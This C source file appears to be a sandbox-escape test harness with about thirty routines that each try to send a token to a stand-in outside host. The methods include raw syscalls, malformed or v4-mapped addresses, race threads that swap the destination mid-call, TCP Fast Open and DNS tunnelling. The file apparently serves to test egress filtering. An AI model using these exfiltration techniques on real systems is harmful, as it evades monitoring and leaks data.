/* Ways out by sends that carry an address. escape_send NAME: sends $ESCAPE_TOKEN (or NAME) to 203.0.113.9 by that way; `list` names them. */
#include "escapes.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#ifndef TCP_FASTOPEN_CONNECT
#define TCP_FASTOPEN_CONNECT 30
#endif

static volatile int stop;

static struct sockaddr_in at(const char *text, int port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	inet_aton(text, &sin.sin_addr);
	return sin;
}

static struct sockaddr_in6 at6(const char *text, int port)
{
	struct sockaddr_in6 sin6 = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };

	inet_pton(AF_INET6, text, &sin6.sin6_addr);
	return sin6;
}

static struct sockaddr_in out(void) { return at("203.0.113.9", 9000); }
static int udp(void) { return socket(AF_INET, SOCK_DGRAM, 0); }

static struct msghdr message(struct iovec *iov, void *name, socklen_t len)
{
	*iov = (struct iovec){ (void *)(uintptr_t)token, strlen(token) };
	return (struct msghdr){ .msg_name = name, .msg_namelen = len, .msg_iov = iov, .msg_iovlen = 1 };
}

static void udp_sendto(void)
{
	struct sockaddr_in to = out();

	sendto(udp(), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void udp_sendto_by_system_call(void)
{
	struct sockaddr_in to = out();

	syscall(SYS_sendto, udp(), token, strlen(token), 0, &to, sizeof(to));
}

static void udp_sendmsg(void)
{
	struct sockaddr_in to = out();
	struct iovec iov;
	struct msghdr msg = message(&iov, &to, sizeof(to));

	sendmsg(udp(), &msg, 0);
}

static void udp_second_message_of_sendmmsg(void)
{
	struct sockaddr_in to[2] = { at("127.0.0.1", 9001), out() };
	struct iovec iov[2];
	struct mmsghdr both[2] = { { message(&iov[0], &to[0], sizeof(to[0])), 0 }, { message(&iov[1], &to[1], sizeof(to[1])), 0 } };

	sendmmsg(udp(), both, 2, 0);
}

static void udp_connect_and_write(void)
{
	struct sockaddr_in to = out();
	int fd = udp();

	connect(fd, (struct sockaddr *)&to, sizeof(to));
	if (write(fd, token, strlen(token)) < 0)
		return;
}

static void udp_connect_inside_then_outside(void)
{
	struct sockaddr_in first = at("127.0.0.1", 9001), to = out();
	int fd = udp();

	connect(fd, (struct sockaddr *)&first, sizeof(first));
	connect(fd, (struct sockaddr *)&to, sizeof(to));
	send(fd, token, strlen(token), 0);
}

static void udp_connected_inside_sends_outside(void)
{
	struct sockaddr_in first = at("127.0.0.1", 9001), to = out();
	int fd = udp();

	connect(fd, (struct sockaddr *)&first, sizeof(first));
	sendto(fd, token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void udp_family_unspecified(void)
{
	struct sockaddr_in to = out();

	to.sin_family = AF_UNSPEC;
	sendto(udp(), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void udp_v4_mapped(void)
{
	struct sockaddr_in6 to = at6("::ffff:203.0.113.9", 9000);

	sendto(socket(AF_INET6, SOCK_DGRAM, 0), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void udp_v4_address_on_a_v6_socket(void)
{
	struct sockaddr_in to = out();

	sendto(socket(AF_INET6, SOCK_DGRAM, 0), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void udp_v6(void)
{
	struct sockaddr_in6 to = at6("2001:db8::9", 9000);

	sendto(socket(AF_INET6, SOCK_DGRAM, 0), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

/* The low half of this pointer is zero. */
static void udp_address_at_four_gigabytes(void)
{
	struct sockaddr_in *to = mmap((void *)(uintptr_t)0x700000000ull, 4096, PROT_READ | PROT_WRITE,
				      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);

	if (to == MAP_FAILED)
		return;
	*to = out();
	sendto(udp(), token, strlen(token), 0, (struct sockaddr *)to, sizeof(*to));
}

static void udp_address_longer_than_it_is(void)
{
	struct sockaddr_storage to = { 0 };
	struct sockaddr_in real = out();

	memcpy(&to, &real, sizeof(real));
	sendto(udp(), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void udp_broadcast_flag(void)
{
	struct sockaddr_in to = out();
	int fd = udp(), on = 1;

	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	sendto(fd, token, strlen(token), MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
}

static struct sockaddr_in flipped;

static void *flip(void *data)
{
	uint32_t in = at("127.0.0.1", 0).sin_addr.s_addr, outside = out().sin_addr.s_addr;

	while (!stop) {
		*(volatile uint32_t *)&flipped.sin_addr.s_addr = in;
		*(volatile uint32_t *)&flipped.sin_addr.s_addr = outside;
	}
	return data;
}

static void while_another(void *(*flips)(void *), void (*attempt)(int fd))
{
	pthread_t thread;
	int fd = udp();

	flipped = out();
	pthread_create(&thread, NULL, flips, NULL);
	for (int i = 0; i < 3000; i++)
		attempt(fd);
	stop = 1;
	pthread_join(thread, NULL);
}

static void flip_sendto(int fd) { sendto(fd, token, strlen(token), 0, (struct sockaddr *)&flipped, sizeof(flipped)); }

static void flip_sendmsg(int fd)
{
	struct iovec iov;
	struct msghdr msg = message(&iov, &flipped, sizeof(flipped));

	sendmsg(fd, &msg, 0);
}

static void flip_connect(int fd)
{
	if (connect(fd, (struct sockaddr *)&flipped, sizeof(flipped)) == 0)
		send(fd, token, strlen(token), 0);
}

static void udp_address_flipped_during_sendto(void) { while_another(flip, flip_sendto); }
static void udp_address_flipped_during_sendmsg(void) { while_another(flip, flip_sendmsg); }
static void udp_address_flipped_during_connect(void) { while_another(flip, flip_connect); }

static struct mmsghdr added;

/* A message without an address is nothing to judge. */
static void *add_name(void *data)
{
	while (!stop) {
		*(void *volatile *)&added.msg_hdr.msg_name = NULL;
		*(void *volatile *)&added.msg_hdr.msg_name = &flipped;
	}
	return data;
}

static void added_sendmmsg(int fd)
{
	static struct iovec iov;

	if (!added.msg_hdr.msg_iov)
		added.msg_hdr = message(&iov, NULL, sizeof(flipped));
	sendmmsg(fd, &added, 1, 0);
}

static void udp_address_added_during_sendmmsg(void) { while_another(add_name, added_sendmmsg); }

static void fast_open_sendto(void)
{
	struct sockaddr_in to = at("203.0.113.9", 8080);

	sendto(socket(AF_INET, SOCK_STREAM, 0), token, strlen(token), MSG_FASTOPEN, (struct sockaddr *)&to, sizeof(to));
}

static void fast_open_sendmsg(void)
{
	struct sockaddr_in to = at("203.0.113.9", 8080);
	struct iovec iov;
	struct msghdr msg = message(&iov, &to, sizeof(to));

	sendmsg(socket(AF_INET, SOCK_STREAM, 0), &msg, MSG_FASTOPEN);
}

static void fast_open_connect(void)
{
	struct sockaddr_in to = at("203.0.113.9", 8080);
	int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on));
	connect(fd, (struct sockaddr *)&to, sizeof(to));
	send(fd, token, strlen(token), MSG_NOSIGNAL);
}

/* A question whose first label is the token: the name itself carries data. */
static size_t question(uint8_t *buf, const char *rest, int type)
{
	static const uint8_t head[12] = { 0x12, 0x34, 1, 0, 0, 1 };
	size_t n = sizeof(head), len = strlen(token);

	memcpy(buf, head, n);
	buf[n++] = (uint8_t)len;
	memcpy(buf + n, token, len);
	n += len;
	for (; *rest; rest += len + 1) {
		len = strcspn(rest, ".");
		buf[n++] = (uint8_t)len;
		memcpy(buf + n, rest, len);
		n += len;
		if (!rest[len])
			break;
	}
	buf[n++] = 0;
	buf[n++] = 0;
	buf[n++] = (uint8_t)type;
	buf[n++] = 0;
	buf[n++] = 1;
	return n;
}

static void ask_datagram(const char *server, const char *rest, int type)
{
	struct sockaddr_in to = at(server, 53);
	uint8_t buf[512];

	sendto(udp(), buf, question(buf, rest, type), 0, (struct sockaddr *)&to, sizeof(to));
	usleep(200000);
}

static void dns_tunnel_in_a_name(void) { ask_datagram("203.0.113.53", "evil.example", 1); }
static void dns_tunnel_in_a_text_record(void) { ask_datagram("203.0.113.53", "good.example", 16); }
static void dns_tunnel_in_any(void) { ask_datagram("203.0.113.53", "good.example", 255); }
static void dns_to_another_server(void) { ask_datagram("203.0.113.9", "evil.example", 1); }

static void dns_connected_and_written(void)
{
	struct sockaddr_in to = at("203.0.113.53", 53);
	uint8_t buf[512];
	int fd = udp();

	connect(fd, (struct sockaddr *)&to, sizeof(to));
	if (write(fd, buf, question(buf, "evil.example", 1)) > 0)
		usleep(200000);
}

static void dns_port_used_for_anything(void)
{
	struct sockaddr_in to = at("203.0.113.9", 53);

	sendto(udp(), token, strlen(token), 0, (struct sockaddr *)&to, sizeof(to));
}

static void dns_over_tcp(void)
{
	struct sockaddr_in to = at("203.0.113.9", 53);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	uint8_t buf[512];
	size_t n = question(buf + 2, "evil.example", 1);

	buf[0] = 0;
	buf[1] = (uint8_t)n;
	connect(fd, (struct sockaddr *)&to, sizeof(to));
	send(fd, buf, n + 2, MSG_NOSIGNAL);
	usleep(200000);
}

static const struct attempt attempts[] = {
	ROW(udp_sendto), ROW(udp_sendto_by_system_call), ROW(udp_sendmsg), ROW(udp_second_message_of_sendmmsg),
	ROW(udp_connect_and_write), ROW(udp_connect_inside_then_outside), ROW(udp_connected_inside_sends_outside),
	ROW(udp_family_unspecified), ROW(udp_v4_mapped), ROW(udp_v4_address_on_a_v6_socket), ROW(udp_v6),
	ROW(udp_address_at_four_gigabytes), ROW(udp_address_longer_than_it_is), ROW(udp_broadcast_flag),
	ROW(udp_address_flipped_during_sendto), ROW(udp_address_flipped_during_sendmsg), ROW(udp_address_flipped_during_connect),
	ROW(udp_address_added_during_sendmmsg),
	ROW(fast_open_sendto), ROW(fast_open_sendmsg), ROW(fast_open_connect), ROW(dns_tunnel_in_a_name),
	ROW(dns_tunnel_in_a_text_record), ROW(dns_tunnel_in_any), ROW(dns_to_another_server), ROW(dns_connected_and_written),
	ROW(dns_port_used_for_anything), ROW(dns_over_tcp),
};

int main(int argc, char **argv) { return run_attempt(argc, argv, attempts, sizeof(attempts) / sizeof(attempts[0])); }
